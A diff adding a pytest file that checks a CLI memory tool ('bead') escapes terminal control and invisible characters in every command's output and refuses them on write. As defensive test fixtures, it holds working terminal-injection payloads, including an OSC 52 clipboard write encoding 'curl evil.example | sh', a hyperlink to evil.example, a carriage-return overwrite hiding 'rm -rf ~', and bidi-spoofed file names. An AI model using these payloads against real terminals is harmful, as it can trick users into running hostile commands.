@@ -1,0 +1,237 @@
+"""Nothing a store holds drives the person's terminal: every command that prints stored or captured text shows
+its control and invisible characters as escapes (bead.display), and `bead write` refuses them.
+
+The hostile text is planted the way an attacker gets it in: a fact written through the store API (as a
+capture or an old store might hold it; `bead write` refuses it now), raw turns in the raw log, a review-queue
+item, a dream report, a trace line, a file whose name holds escapes, a proxy that answers /bead/health with
+them. Each command's output (stdout and stderr) must hold none of them raw, and must show their escapes so
+the person sees something is there.
+"""
+
+from __future__ import annotations
+
+import json
+import unicodedata
+from datetime import UTC, datetime
+from types import SimpleNamespace
+
+import pytest
+
+from bead.display import json_text, one_line, visible
+from bead.dream.queue import Queue
+from bead.dream.run import Reports
+
+T0 = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)
+WORD = "zqxhostile"
+
+# What a terminal acts on, one kind per entry.
+ESCAPES = {
+    "CSI: clear, home, paint": "\x1b[2J\x1b[H\x1b[31mRED\x1b[0m",
+    "OSC 0 with BEL: retitle": "\x1b]0;pwned\x07",
+    "OSC 0 with ST": "\x1b]0;pwned-st\x1b\\",
+    "OSC 8 hyperlink with ST": "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
+    "OSC 52 with BEL: clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
+    "C1 CSI": "\x9b2J",
+    "C1 OSC with C1 ST": "\x9d0;c1-title\x9c",
+    "carriage return overwrite": "rm -rf ~\rsafe text ",
+    "backspaces": "evil\x08\x08\x08\x08good",
+    "bidi overrides": "\u202egnp.exe \u2066a\u2067b\u2068c\u2069 \u202d\u202c",
+    "zero-width": "ze\u200bro\u200cwi\u200ddth\u2060jo\ufeffin",
+    "line and paragraph separators": "line\u2028sep\u2029para",
+    "NUL and DEL": "nul\x00del\x7f",
+}
+HOSTILE = f"{WORD} the deploy note: " + " | ".join(ESCAPES.values()) + " end"
+# Their escapes, as the person must see them.
+SHOWN = ["\\x1b]0;pwned\\x07", "\\x1b[2J", "\\x1b]52;c;", "\\x1b]8;;", "\\x9b2J", "\\x9d0;", "\\x0d", "\\x08",
+         "\\u202e", "\\u2066", "\\u200b", "\\ufeff", "\\u2028", "\\u2029", "\\x00", "\\x7f"]
+# A file name holds no NUL or slash; the rest goes.
+NAME = "note\x1b]0;pwned\x07\x9b2J\u202e\u200b\rX"
+
+
+def acts(ch: str) -> bool:
+    """Whether ``ch`` may not reach a terminal raw: every C0 control but the line feed, DEL, C1, and every
+    invisible format character (bidi, zero-width, line and paragraph separators)."""
+    code = ord(ch)
+    return (code < 0x20 and ch != "\n") or 0x7f <= code < 0xa0 or unicodedata.category(ch) in ("Cf", "Zl", "Zp")
+
+
+def raw_in(text: str) -> list[str]:
+    return sorted({visible(ch) for ch in text if acts(ch)})
+
+
+def strings(data) -> list[str]:
+    if isinstance(data, str):
+        return [data]
+    if isinstance(data, dict):
+        data = list(data.values())
+    return [s for d in data for s in strings(d)] if isinstance(data, list) else []
+
+
+def check(r, *shown: str, code: int = 0) -> str:
+    """The output of one run: the expected exit code, nothing raw, the given escapes shown."""
+    both = r.out + r.err
+    assert r.code == code, both
+    assert raw_in(both) == [], f"raw control or format characters reached the terminal: {raw_in(both)}\n{both!r}"
+    encoded = both.encode("utf-8")
+    assert b"\x1b" not in encoded and b"\x07" not in encoded and b"\xc2\x9b" not in encoded
+    for s in shown:
+        assert s in both, f"{s} is not shown:\n{both}"
+    return both
+
+
+@pytest.fixture
+def planted(mem, bead_home, tmp_path):
+    """A store an attacker wrote into, through every way in but `bead write`."""
+    mem.write("project/shop/notes", HOSTILE, "project")
+    mem.write("project/shop/notes", HOSTILE + " again", "project")
+    mem.write("project/shop/deploys", HOSTILE, "feedback", pinned=True)
+    turns = mem.append_turns("s1", [("user", HOSTILE, T0, None, {"project": "shop", "source": "typed"}),
+                                    ("tool", f"{WORD} tool output {ESCAPES['OSC 52 with BEL: clipboard']}", T0, None,
+                                     {"project": "shop"})])
+    Queue(mem).add("suspicious", "project/shop/deploy", "project", HOSTILE, [turns[0].anchor],
+                   f"reads like an instruction {ESCAPES['OSC 0 with BEL: retitle']}", "untrusted")
+    Reports(mem.home).append(T0, f"## Dream run 2026-11-20T10:00:00Z\n\n- {HOSTILE}\n")
+    trace = tmp_path / "trace.jsonl"
+    entry = {"at": "2026-11-20T10:00:00Z", "session": NAME, "thread": NAME, "project": "shop", "roles": ["user", NAME],
+             "newest_user": HOSTILE, "pinned": [NAME], "cues": [{"source": NAME, "text": HOSTILE}],
+             "injected": [NAME], "pointers": [NAME], "rejected": [{"score": 1.5, "id": NAME, "reason": HOSTILE}],
+             "remembered": HOSTILE, "errors": [HOSTILE], "prepare_ms": 1, "recall_ms": 2}
+    trace.write_text(json.dumps(entry) + "\n", encoding="utf-8")
+    return SimpleNamespace(mem=mem, trace=trace, home=bead_home)
+
+
+class TestEveryCommandShowsEscapes:
+    def test_show(self, bead, planted):
+        check(bead("show", "project/shop/notes"), *SHOWN)
+        check(bead("show", "project/shop/notes", "--all"), *SHOWN)
+
+    def test_history(self, bead, planted):
+        out = check(bead("history", "project/shop/notes"), "\\x1b[2J")
+        assert out.count("\n") == 2, "one line per version: a value forges no line"
+
+    def test_search(self, bead, planted):
+        out = check(bead("search", WORD), "\\x1b[2J")
+        assert "project/shop/notes" in out and "raw turns (2)" in out
+        check(bead("search", WORD, "--raw", "--limit", "5"), "\\x1b]52;c;")
+
+    def test_why(self, bead, planted):
+        check(bead("why", "--trace", str(planted.trace)), "\\x1b]0;pwned\\x07", "\\x1b[2J", "\\u202e")
+
+    def test_queue_and_review(self, bead, planted):
+        check(bead("queue"), "\\x1b[2J", "\\x1b]0;pwned\\x07")
+        check(bead("queue", "--all"), "\\x1b[2J")
+        check(bead("review", "--lines", input="s\ns\nq\n"), "\\x1b]0;pwned\\x07")
+
+    def test_skills(self, bead, planted, tmp_path):
+        check(bead("skills", "preview", "--show", "--dir", str(tmp_path), "--project", "shop"), "\\x1b]0;pwned\\x07")
+
+    def test_status_and_reindex_name_a_hostile_file(self, bead, planted, monkeypatch):
+        bad = planted.home / "store" / "facts" / "user" / NAME
+        bad.mkdir(parents=True)
+        (bad / "v1.md").write_text("not a fact")
+        # A proxy on the address that is not this home's answers /bead/health with what it likes.
+        monkeypatch.setattr("bead.cli.status.proxy_health", lambda listen, token=None: {
+            "running": True, "address": listen, "home": NAME})
+        check(bead("status"), "\\x1b]0;pwned\\x07", "\\u202e", "\\x0dX")
+        check(bead("reindex"), "\\x1b]0;pwned\\x07")
+
+    def test_forget_preview_and_summary(self, bead, planted, monkeypatch):
+        import bead.forget as forget_mod
+
+        # Keys and turn references are validated names; a path forget keeps (and names) is what the disk says.
+        real = forget_mod.apply
+
+        def apply(mem, plan):
+            done = real(mem, plan)
+            return {**done, "kept": [*done["kept"], str(planted.home / NAME)]}
+
+        monkeypatch.setattr(forget_mod, "apply", apply)
+        out = check(bead("forget", "--match", WORD, input="y\n"), "\\x1b]0;pwned\\x07", "\\u202e")
+        assert "This will forget:" in out and "key project/shop/notes" in out and "forgot 2 key(s)" in out
+
+    def test_dream_summary(self, bead, planted, monkeypatch):
+        from bead.dream.run import Dream
+
+        said = SimpleNamespace(path=planted.home / NAME, no_model="", calls=1, tokens_in=1, tokens_out=1,
+                               sessions={NAME: {"written": [NAME]}}, failed=[], dormant=[], queued=[],
+                               stopped_early=False)
+        monkeypatch.setattr(Dream, "run", lambda self: said)
+        check(bead("dream", "run"), "\\x1b]0;pwned\\x07")
+        said.no_model = HOSTILE
+        check(bead("dream", "run"), "\\x1b]52;c;")
+
+    def test_eval_table_names_from_a_suite(self, bead, tmp_path):
+        suite = tmp_path / "s.yaml"
+        suite.write_text('kind: supersession\nname: "sup \\e]0;pwned\\a \\u202e \\N"\nscenarios:\n'
+                         '  - name: "one \\e[2J"\n    scope: project/x\n    writes:\n'
+                         '      - {key: project/x/lang, type: project, body: "x is Python"}\n'
+                         '      - {key: project/x/lang, type: project, body: "x is Rust"}\n'
+                         '    queries:\n      - {query: "what is x written in", expect: Rust, stale: [Python]}\n',
+                         encoding="utf-8")
+        check(bead("eval", str(suite)), "\\x1b]0;pwned\\x07", "\\u202e", "\\x85")
+        r = bead("eval", str(suite), "--json")
+        check(r)
+        assert json.loads(r.out)["name"] == "sup \x1b]0;pwned\x07 \u202e \x85"
+
+    def test_sealed_show(self, bead, planted):
+        import age_scrypt
+
+        from bead.store import files as safe
+        from bead.vault import keys
+
+        mem = planted.mem
+        ident = keys.pyrage().x25519.Identity.generate()
+        text = f"# public key: {ident.to_public()}\n{ident}\n".encode()
+        safe.atomic_write(mem.home.vault / "identity.age", age_scrypt.encrypt(text, "correct horse battery", 10),
+                          root=mem.home.root)
+        safe.atomic_write(mem.home.vault / "recipient.txt", f"{ident.to_public()}\n".encode(), root=mem.home.root)
+        mem.write("user/alarm", HOSTILE, "user", sensitivity="secret")
+        check(bead("sealed", "list"), "user/alarm")
+        check(bead("sealed", "show", "user/alarm", "--passphrase-env", "PASS", env={"PASS": "correct horse battery"}),
+              *SHOWN)
+
+    def test_errors_quote_what_they_refuse(self, bead, planted):
+        check(bead("show", f"user/{NAME}"), code=1)
+        check(bead("why", NAME, "--trace", str(planted.trace)), "\\x1b]0;pwned\\x07", code=1)
+
+
+class TestJson:
+    """--json stays JSON that decodes to the stored text, and carries none of it raw: C0 as json.dumps writes
+    it, DEL, C1 and the invisible format characters as \\u escapes too."""
+
+    @pytest.mark.parametrize("args", [("show", "project/shop/notes"), ("show", "project/shop/notes", "--all"),
+                                      ("history", "project/shop/notes"), ("search", WORD), ("queue",),
+                                      ("why", "--trace", "{trace}"), ("status",)])
+    def test_json_holds_nothing_raw(self, bead, planted, args):
+        r = bead(*[a.replace("{trace}", str(planted.trace)) for a in args], "--json")
+        if args[0] == "status":
+            check(r)
+            return
+        check(r, "\\u001b]0;pwned\\u0007", "\\u009b2J", "\\u202e", "\\u2028")
+        assert any(HOSTILE in text for text in strings(json.loads(r.out))), "the same value, decoded"
+
+    def test_json_text_round_trips(self):
+        data = {"v": HOSTILE, "astral": "tag \U000e0041 \U0001f600", "plain": "é 中 ✓"}
+        text = json_text(data, indent=2)
+        assert raw_in(text) == [] and "\\udb40\\udc41" in text and "é 中 ✓" in text and "\U0001f600" in text
+        assert json.loads(text) == data
+
+
+class TestWriteRefusesControls:
+    @pytest.mark.parametrize("value", ["a \x1b]0;pwned\x07 b", "a \x9b2J b", "nul\x00", "bell\x07", "del\x7f"])
+    def test_refused_with_a_hint_and_nothing_written(self, bead, bead_home, value):
+        r = bead("write", "user/editor", value, "--type", "user")
+        out = check(r, code=1)
+        assert "refusing to write user/editor" in out and "control characters" in out and "hint:" in out
+        assert not (bead_home / "store" / "facts" / "user" / "editor").exists()
+        r = bead("write", "user/editor", "-", "--type", "user", input=value)
+        assert r.code == 1 and "control characters" in r.err
+
+    def test_tabs_and_line_breaks_are_fine(self, bead):
+        assert bead("write", "user/editor", "line one\n\tline two\r\n", "--type", "user").code == 0
+
+
+def test_one_line():
+    assert one_line("a\n b\t\tc\r\nd") == "a b c d"
+    assert one_line("\u2028x\rY\u2029") == "\\u2028x\\x0dY\\u2029", "escaped, never dropped as white space"
+    assert one_line("x" * 20, 10) == "x" * 9 + "…"
